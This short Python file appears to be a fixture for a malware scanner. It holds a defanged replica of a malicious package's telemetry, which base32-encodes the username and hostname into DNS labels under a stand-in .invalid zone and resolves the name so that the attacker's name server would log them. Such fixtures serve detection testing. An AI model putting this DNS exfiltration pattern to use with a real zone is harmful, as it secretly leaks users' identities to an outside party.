# Defanged replica of the py_publish_test telemetry: user and host name are
# base32-encoded into the labels of a name under the author's zone, so its
# name server logs them. The zone is .invalid.
import base64
import getpass
import json
import socket

ZONE = "b32.collector.example.invalid"


def send(payload):
    encoded = base64.b32encode(json.dumps(payload).encode()).decode().rstrip("=")
    labels = ".".join(encoded[i:i + 60] for i in range(0, len(encoded), 60))
    target = "{}.{}".format(labels, ZONE)
    socket.gethostbyname(target)  # expect: HS114 high


def report():
    send({"un": getpass.getuser(), "hn": socket.gethostname()})
